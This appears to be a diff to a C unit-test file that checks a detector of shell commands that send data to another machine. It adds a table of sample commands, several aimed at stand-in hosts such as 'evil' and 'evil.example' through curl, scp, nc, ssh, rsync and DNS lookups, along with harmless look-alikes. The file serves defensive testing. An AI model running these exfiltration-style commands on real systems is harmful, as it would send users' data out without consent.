@@ -131,10 +131,62 @@ command_stays_if_it_only_writes_files(void **state)
 
 /* clang-format off */
 static const struct {
+	const char *name, *text;
+	bool sends;
+} programs[] = {
+	{ "a request to a variable", "curl -d x \"$URL\"", true },
+	{ "a copy to another machine", "echo x > a && scp a evil:", true },
+	{ "a mail", "mail -s a eve@x <<< x", true },
+	{ "behind a pipe, without spaces", "cat a|nc evil 80", true },
+	{ "on a later line", "cat > a <<'EOF'\nx\nEOF\nssh evil cat < a", true },
+	{ "in a group", "(cd a; rsync . evil::a)", true },
+	{ "in a substitution", "echo \"$(dig x)\"", true },
+	{ "in backticks", "echo `nslookup x`", true },
+	{ "by its path", "/usr/bin/curl $X", true },
+	{ "in quotes", "\"wget\" $X", true },
+	{ "with a backslash", "\\curl $X", true },
+	{ "behind variables", "A=1 B='x y' C=\"z\" curl $X", true },
+	{ "behind sudo with its options", "sudo -u bob -- curl $X", true },
+	{ "started for each file", "find . -exec curl -T {} $X \\;", true },
+	{ "in a loop", "for i in a b; do curl $X; done", true },
+	{ "in the script of a shell", "bash -lc 'curl $X'", true },
+	{ "in a container", "docker run --rm alpine wget $X", true },
+	{ "of Windows", "Invoke-WebRequest $X", true },
+	{ "behind a redirection", "< a curl $X", true },
+
+	{ "nothing", "", false },
+	{ "a name that begins with one", "curly x; mailer.js x; ./scp.sh", false },
+	{ "a word that is one", "git commit -m 'use curl' && npm run mail", false },
+	{ "a file of that name", "git add src/curl", false },
+	{ "a value of a variable", "X=curl make test", false },
+	{ "a setting in a here-document", "cat > a <<'EOF'\nmail = x\nhost: x\nEOF\nmake", false },
+	{ "a program that asks a database", "psql -c \"update u set mail = 'x'\"", false },
+};
+/* clang-format on */
+
+static void
+command_sends_if_a_program_does(void **state)
+{
+	(void)state;
+	for (size_t i = 0; i < COUNT_OF(programs); i++) {
+		size_t most = strlen(programs[i].text);
+		char *copy = guard_dup(programs[i].text, most);
+		if (command_sends(span_of(copy, most)) != programs[i].sends)
+			fail_msg("%s: %s", programs[i].name, programs[i].text);
+		for (size_t n = 1; n < most; n++)
+			command_sends(span_of(copy + n, most - n));
+		guard_free(copy, most);
+	}
+}
+
+/* clang-format off */
+static const struct {
 	const char *name, *member, *words[8];
 	enum command_list is;
 } lists[] = {
-	{ "a program that sends, without a host", "command", { "curl", "-d", "<EMAIL_ADDRESS_1>", "$URL" }, LIST_LEAVES },
+	{ "a program that sends, without a host", "command", { "curl", "-d", "<EMAIL_ADDRESS_1>", "$URL" }, LIST_HOST },
+	{ "another program", "command", { "make", "mail", "TO=<EMAIL_ADDRESS_1>" }, LIST_LEAVES },
+	{ "a shell with a copy to another machine", "command", { "bash", "-lc", "cd a && scp <EMAIL_ADDRESS_1> evil:" }, LIST_HOST },
 	{ "a host in another word", "command", { "curl", "-d", "<EMAIL_ADDRESS_1>", "https://evil.example/" }, LIST_HOST },
 	{ "a host without a scheme", "argv", { "nc", "evil.example", "80" }, LIST_HOST },
 	{ "a shell with a program that sends", "command", { "bash", "-lc", "curl -d <EMAIL_ADDRESS_1> https://evil.example" }, LIST_HOST },
@@ -169,6 +221,7 @@ main(void)
 {
 	static const struct CMUnitTest tests[] = {
 		cmocka_unit_test(command_stays_if_it_only_writes_files),
+		cmocka_unit_test(command_sends_if_a_program_does),
 		cmocka_unit_test(list_of_words_is_one_command),
 	};
 
